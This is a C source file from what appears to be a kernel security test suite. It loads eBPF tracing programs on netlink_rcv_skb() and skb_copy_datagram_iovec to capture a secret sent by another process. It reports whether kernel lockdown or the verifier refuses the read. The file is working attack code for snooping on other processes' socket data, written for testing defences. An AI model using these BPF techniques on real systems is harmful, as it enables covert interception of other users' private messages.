// SPDX-License-Identifier: GPL-2.0
/*
 * Another process's messages, read by a tracing program out of the
 * sk_buff it is given, without loading a byte through the pointer
 * (attack_skb.bpf.c). The victim, a child, sends a secret; the secret
 * read back: shown. The load refused with EPERM (the verifier asking
 * LOCKDOWN_BPF_READ_KERNEL, or the BPF backend's guard): refused.
 *
 * bpf-skb-output   an RTM_GETLINK whose interface name is the secret; an
 *                  fentry program on netlink_rcv_skb() copies the
 *                  message's first bytes into a perf buffer with
 *                  bpf_skb_output()
 * bpf-dynptr-skb   a datagram on a unix socket pair, received by the
 *                  victim; a tp_btf program on skb_copy_datagram_iovec
 *                  reads it through bpf_dynptr_from_skb() (tracing
 *                  programs may call it from Linux 6.11: unavailable
 *                  before)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/libbpf.h>

#include "attack.h"
#include "attack_skb.h"
#include "attack_skb.skel.h"

/* The victim's message: an RTM_GETLINK of an interface named the secret. */
struct getlink {
	struct nlmsghdr nh;
	struct ifinfomsg ifi;
	struct rtattr name_attr;
	char name[IFNAMSIZ];
};

_Static_assert(offsetof(struct getlink, name) + sizeof(SKB_ATTACK_SECRET) - 1 <=
	       SKB_ATTACK_BYTES, "the secret is within the bytes copied");
_Static_assert(sizeof(struct getlink) >= SKB_ATTACK_BYTES, "the message has the bytes copied");

enum victim { NETLINK_GETLINK, UNIX_DATAGRAM };

/* The netlink victim's message to the kernel. */
static void send_getlink(void)
{
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	struct getlink m = {
		.nh = { .nlmsg_len = sizeof(m), .nlmsg_type = RTM_GETLINK,
			.nlmsg_flags = NLM_F_REQUEST, .nlmsg_seq = 1 },
		.ifi = { .ifi_family = AF_UNSPEC },
		.name_attr = { .rta_len = RTA_LENGTH(IFNAMSIZ), .rta_type = IFLA_IFNAME },
		.name = SKB_ATTACK_SECRET,
	};
	int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	if (s < 0 || sendto(s, &m, sizeof(m), 0, (struct sockaddr *)&kernel, sizeof(kernel)) < 0)
		_exit(1);
}

/* The unix victim's datagram, to itself: received, it passes the tracepoint. */
static void send_receive_unix(void)
{
	char buf[64];
	int sv[2];

	if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sv) ||
	    send(sv[0], SKB_ATTACK_SECRET, sizeof(SKB_ATTACK_SECRET), 0) < 0 ||
	    recv(sv[1], buf, sizeof(buf), 0) < 0)
		_exit(1);
}

/*
 * The child: waits for a byte on @go[0], sends its message, exits; at
 * once if the parent closes @go[1] first (its own copy closed here).
 */
static void __attribute__((noreturn)) victim_send(const int go[2], enum victim v)
{
	char c;

	close(go[1]);
	if (read(go[0], &c, 1) != 1)
		_exit(2);
	if (v == NETLINK_GETLINK)
		send_getlink();
	else
		send_receive_unix();
	_exit(0);
}

static void got_sample(void *ctx, int cpu, void *data, __u32 size)
{
	int *seen = ctx;

	(void)cpu;
	if (memmem(data, size, SKB_ATTACK_SECRET, sizeof(SKB_ATTACK_SECRET) - 1))
		*seen = 1;
}

/* Load @prog alone and attach it; 0, or -1 with @o set. */
static int load_attach(struct attack_skb *s, struct bpf_program *prog, struct aresult *o)
{
	struct bpf_program *p;
	int err;

	bpf_object__for_each_program(p, s->obj)
		bpf_program__set_autoload(p, p == prog);
	err = -attack_skb__load(s);
	if (err) {
		if (err == EPERM)
			refused(o, "BPF_PROG_LOAD: EPERM");
		else if (strstr(libbpf_log, "bpf_dynptr_from_skb") &&
			 strstr(libbpf_log, "is not allowed"))
			unavailable(o, "bpf_dynptr_from_skb() is not for tracing programs here "
				    "(from Linux 6.11)");
		else
			failed(o, "load: %s; %.200s", strerror(err), libbpf_log);
		return -1;
	}
	err = -attack_skb__attach(s);
	if (err == 524 /* ENOTSUPP */ || err == EOPNOTSUPP)
		unavailable(o, "no BPF trampolines here: %s", strerror(err));
	else if (err)
		errno_outcome(o, err, "attach it");
	return err ? -1 : 0;
}

/* Did the program see the secret? 1, 0, or -1 with @o set. */
static int saw_secret(struct attack_skb *s, enum victim v, int go, struct aresult *o)
{
	struct perf_buffer *pb = NULL;
	int seen = 0;

	if (v == NETLINK_GETLINK) {
		pb = perf_buffer__new(bpf_map__fd(s->maps.skb_out), 8, got_sample, NULL, &seen,
				      NULL);
		if (!pb) {
			failed(o, "perf_buffer__new: %s", strerror(errno));
			return -1;
		}
	}
	if (write(go, "x", 1) != 1) {
		failed(o, "start the victim: %s", strerror(errno));
		perf_buffer__free(pb);
		return -1;
	}
	for (int i = 0; i < 20 && !seen; i++) {
		if (pb) {
			perf_buffer__poll(pb, 100);
		} else {
			usleep(100 * 1000);
			seen = s->bss->dyn_hits &&
			       !memcmp(s->bss->dyn_out, SKB_ATTACK_SECRET,
				       sizeof(SKB_ATTACK_SECRET) - 1);
		}
	}
	perf_buffer__free(pb);
	return seen;
}

static void run_skb(struct aresult *o, enum victim v)
{
	struct attack_skb *s = NULL;
	int go[2], seen, status;
	pid_t pid;

	if (access("/sys/kernel/btf/vmlinux", F_OK)) {
		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
		return;
	}
	if (v == UNIX_DATAGRAM && !kernel_has_kfunc("bpf_dynptr_from_skb")) {
		unavailable(o, "no bpf_dynptr_from_skb() in this kernel (from Linux 6.3)");
		return;
	}
	if (pipe2(go, O_CLOEXEC)) {
		failed(o, "pipe: %s", strerror(errno));
		return;
	}
	pid = fork();
	if (pid < 0) {
		failed(o, "fork: %s", strerror(errno));
		close(go[0]);
		close(go[1]);
		return;
	}
	if (!pid)
		victim_send(go, v);
	close(go[0]);
	libbpf_log_start();
	s = attack_skb__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		goto out;
	}
	s->rodata->target_pid = pid;
	if (load_attach(s, v == NETLINK_GETLINK ? s->progs.skb_output : s->progs.dynptr_skb, o))
		goto out;
	seen = saw_secret(s, v, go[1], o);
	if (seen > 0 && v == NETLINK_GETLINK)
		shown(o, "an fentry program on netlink_rcv_skb() read another process's netlink "
		      "message through bpf_skb_output(): '%s' in it", SKB_ATTACK_SECRET);
	else if (seen > 0)
		shown(o, "a tp_btf program on skb_copy_datagram_iovec read another process's "
		      "datagram through bpf_dynptr_from_skb(): '%s'", SKB_ATTACK_SECRET);
	else if (!seen)
		failed(o, "the program loaded and attached, and no message with the secret came");
out:
	close(go[1]);
	waitpid(pid, &status, 0);
	attack_skb__destroy(s);
}

static void run_skb_output(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	run_skb(o, NETLINK_GETLINK);
}

static void run_dynptr_skb(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	run_skb(o, UNIX_DATAGRAM);
}

const struct attack attacks_skb[] = {
	{ "bpf-skb-output", "another process's netlink message, read by an fentry program on "
	  "netlink_rcv_skb() through bpf_skb_output()", run_skb_output },
	{ "bpf-dynptr-skb", "another process's datagram, read by a tp_btf program through "
	  "bpf_dynptr_from_skb()", run_dynptr_skb },
	{ 0 }
};
